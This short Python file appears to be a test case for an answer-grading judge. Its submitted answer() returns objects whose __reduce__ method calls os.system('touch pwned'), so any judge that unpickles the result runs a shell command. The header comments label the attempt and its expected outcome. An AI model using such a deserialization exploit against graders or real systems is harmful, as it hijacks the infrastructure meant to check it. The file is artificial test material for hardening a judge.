# Class: I
# Tries: to have its bytes unpickled by the judge.
# Not: a file changed
# Then: oddity
import os


class Bomb:
    def __reduce__(self):
        return os.system, ("touch pwned",)


def answer(x):
    import numpy as np

    return np.array([Bomb(), Bomb()], dtype=object)
